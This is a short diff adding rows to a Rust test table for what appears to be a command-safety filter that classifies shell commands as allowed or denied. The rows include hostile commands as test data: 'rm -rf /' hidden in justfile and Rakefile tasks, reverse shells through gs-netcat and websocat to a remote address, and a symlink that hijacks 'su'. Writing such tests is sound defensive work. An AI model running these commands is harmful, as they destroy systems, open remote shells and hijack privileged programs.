@@ -1700,6 +1700,11 @@ const DEFAULT_TABLE: &[(&str, Action, &str, Kind)] = &[
     ("echo '{\"scripts\":{\"build\":\"tsc -p .\"}}' > package.json && npm run build", ALLOW, "default", Lookalike),
     ("printf 'clean:\\n    rm -rf /\\n' > justfile && just clean", DENY, "rm-recursive-system", Bypass),
     ("printf 'task :x do\\n  sh \"rm -rf /\"\\nend\\n' > Rakefile && rake x", DENY, "rm-recursive-system", Bypass),
+    ("gs-netcat -i -s k3y", DENY, "reverse-shell-tools", Plain),
+    ("websocat -e bash ws://203.0.113.4/", DENY, "reverse-shell-tools", Plain),
+    ("websocat -t ws://127.0.0.1:9000/", ALLOW, "default", Lookalike),
+    ("ln -s ~/src/tool/tool ~/bin/tool", ALLOW, "default", Lookalike),
+    ("ln -sf /bin/zsh /usr/local/bin/su", DENY, "system-path-hijack-privileged-program", Plain),
 ];
 
 #[test]
